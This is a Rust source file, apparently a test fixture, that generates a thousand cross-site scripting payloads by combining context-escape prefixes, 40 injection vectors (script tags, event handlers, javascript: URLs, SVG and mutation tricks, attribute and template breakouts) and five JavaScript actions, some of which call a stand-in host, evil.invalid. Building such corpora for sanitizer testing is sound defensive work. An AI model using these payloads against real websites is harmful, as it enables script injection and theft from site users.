//! A thousand strings that run a script where text becomes markup, an attribute, a script or a template.

/// What each does: it leaves a mark, opens a dialog, or asks for an address.
const DEEDS: [&str; 5] = [
    "window.__pwned=1",
    "alert(1)",
    "fetch('http://evil.invalid/a')",
    "window.__pwned=document.domain;confirm(2)",
    "new Image().src='http://evil.invalid/i'",
];

/// How it gets there. `@` is the deed.
const VECTORS: [&str; 40] = [
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<scr\u{0}ipt>@</scr\u{0}ipt>",
    "<script src=http://evil.invalid/x.js></script>",
    "<img src=x onerror=@>",
    "<img/src=http://evil.invalid/p onerror=\"@\">",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='@'/>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@>",
    "<details open ontoggle=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<body onload=@>",
    "<iframe src=\"javascript:@\"></iframe>",
    "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<a href=\"javascript:@\" autofocus>x</a>",
    "javascript:@",
    "<video><source onerror=\"@\"></video>",
    "<audio src=x onerror=@>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<link rel=prefetch href=http://evil.invalid/y onload=@>",
    "<style>@import 'http://evil.invalid/z.css'; *{background:url(http://evil.invalid/b)}</style><script>@</script>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/r\"><script>@</script>",
    "<base href=http://evil.invalid/><script>@</script>",
    "<form action=http://evil.invalid/f><button autofocus onfocus=@></form>",
    "<template><img src=x onerror=@></template><marquee onstart=@>",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<a id=__pwned></a><form name=__pwned><input id=__pwned></form>",
    "\" autofocus onfocus=\"@\" x=\"",
    "' onmouseover='@' autofocus onfocus='@",
    "` onfocus=`@` autofocus=`",
    "{{ '<script>@</script>' }}{% raw %}<img src=x onerror=@>{% endraw %}",
    "${@}#{@}<%= @ %>",
    "&lt;script&gt;@&lt;/script&gt;",
    "\\u003cscript\\u003e@\\u003c/script\\u003e\\\";@;//",
    "__proto__\u{2028}constructor\u{202e}<img src=x onerror=@>",
];

/// What it breaks out of.
const PREFIXES: [&str; 5] = [
    "",
    "\"></summary></details>",
    "</script></style>",
    "--></textarea></title></noscript></pre>",
    "]]>'\"`>\\",
];

/// All of them.
pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for prefix in PREFIXES {
        for vector in VECTORS {
            all.extend(DEEDS.iter().map(|deed| {
                let text = format!("{prefix}{}", vector.replace('@', deed));
                // Some have no place for a deed, and each is to be another.
                format!("{text}<!-- {} -->", deed.len())
            }));
        }
    }
    all
}

#[test]
fn there_are_a_thousand() {
    let mut all = all();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), 1000);
}
